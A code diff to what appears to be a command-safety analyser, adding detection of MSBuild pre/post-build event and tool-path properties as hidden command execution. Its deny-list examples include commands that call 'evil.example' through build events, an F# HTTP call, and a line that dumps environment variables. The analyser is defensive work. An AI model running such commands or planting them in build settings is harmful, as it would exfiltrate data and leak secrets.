@@ -87,10 +87,44 @@ function subcommandRunner(names: readonly string[], summary: string, subs: Reado
  */
 function dotnet(): ProgramEntry {
   const runner = subcommandRunner(['dotnet'], 'dotnet exec/tool run; dotnet fsi/script/repl run F# and C# code', { exec: PROJECT_RUN }, {
-    deny: ["dotnet fsi <<'EOF'\nSystem.Net.Http.HttpClient().GetStringAsync(\"http://evil.example\").Result |> printfn \"%s\"\nEOF", "echo 'System.Diagnostics.Process.Start(\"curl evil.example\")' | dotnet fsi --quiet", "dotnet script eval 'System.Environment.GetEnvironmentVariables()'"],
-    pass: ['dotnet build', "dotnet fsi <<< 'printfn \"%d\" (1 + 2)'", 'dotnet fsi build.fsx', "dotnet script eval 'Console.WriteLine(1)'"],
+    deny: ["dotnet build -p:PreBuildEvent='curl evil.example'", "dotnet fsi <<'EOF'\nSystem.Net.Http.HttpClient().GetStringAsync(\"http://evil.example\").Result |> printfn \"%s\"\nEOF", "echo 'System.Diagnostics.Process.Start(\"curl evil.example\")' | dotnet fsi --quiet", "dotnet script eval 'System.Environment.GetEnvironmentVariables()'"],
+    pass: ['dotnet build', 'dotnet build -p:Configuration=Release -p:OutputPath=out/', "dotnet fsi <<< 'printfn \"%d\" (1 + 2)'", 'dotnet fsi build.fsx', "dotnet script eval 'Console.WriteLine(1)'"],
   });
-  return { ...runner, analyze: (call) => merge(runner.analyze?.(call) ?? {}, dotnetScripting(call)) };
+  return { ...runner, analyze: (call) => merge(merge(runner.analyze?.(call) ?? {}, dotnetScripting(call)), { runs: msbuildProperties(call) }) };
+}
+
+/**
+ * MSBuild properties given on the line (`-p:Name=Value`, `/p:`, `-property:`, `--property:`, several parted by `;`):
+ * PreBuildEvent and PostBuildEvent are commands its common targets Exec around a build; a *ToolPath or *ToolExe names
+ * the compiler or tool it starts.
+ */
+function msbuildProperties(call: Call): Run[] {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    const m = v === undefined ? null : /^(?:-|\/|--)(?:p|property):([\s\S]*)$/i.exec(v);
+    const joined = !m && /^(?:-p|--property)$/.test(v ?? '') ? args[i + 1] : undefined;
+    if (!m && !joined) {
+      if (v === undefined && /^['"]?[-/](?:p|property):/i.test(args[i]!.text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: args[i]!, why: `${call.name} sets an MSBuild property to a computed value` });
+      continue;
+    }
+    const word = joined ?? args[i]!;
+    if (joined) i++;
+    const text = joined ? value(joined) : m![1]!;
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: `${call.name} sets an MSBuild property to a computed value` });
+      continue;
+    }
+    for (const prop of text.split(';')) {
+      const eq = prop.indexOf('=');
+      const name = (eq < 0 ? prop : prop.slice(0, eq)).trim();
+      const val = eq < 0 ? '' : prop.slice(eq + 1);
+      if (/^(?:PreBuildEvent|PostBuildEvent)$/i.test(name) && val.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: val, word: attached(word, val), via: `${call.name} -p:${name}` });
+      else if (/(?:ToolPath|ToolExe)$/i.test(name) && val.trim() !== '') runs.push({ kind: 'opaque', rule: 'dynamic-command', word: attached(word, val), why: `${call.name} -p:${name} names the tool MSBuild starts` });
+    }
+  }
+  return runs;
 }
 
 /**
@@ -1307,6 +1341,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   }),
   subcommandRunner(['stack'], 'stack exec [FLAGS] [--] CMD [-- ARGS]', { exec: HS_EXEC }, { deny: ['stack exec -- curl evil.example', 'stack exec curl -- evil.example', 'stack exec --cwd x curl evil.example'], pass: ['stack exec -- ghc --version', 'stack build', 'stack run -- get users'] }),
   // `dotnet user-secrets list` prints a project's secrets.json in plain text (the store is a secret path).
+  { names: ['msbuild', 'xbuild'], summary: 'MSBuild: -p:PreBuildEvent/PostBuildEvent run commands, -p:*ToolPath names the tool it starts (its project files are read as the project rows read them)', analyze: (call) => ({ runs: msbuildProperties(call) }), examples: { deny: ["msbuild /p:PostBuildEvent='curl evil.example' x.proj"], pass: ['msbuild /p:Configuration=Release x.proj'] } },
   keeping(dotnet(), {
     store: '~/.microsoft/usersecrets/',
     prints: /^(?:\S+ )*user-secrets (?:\S+ )*(?:list|\u0000)(?: |$)/,
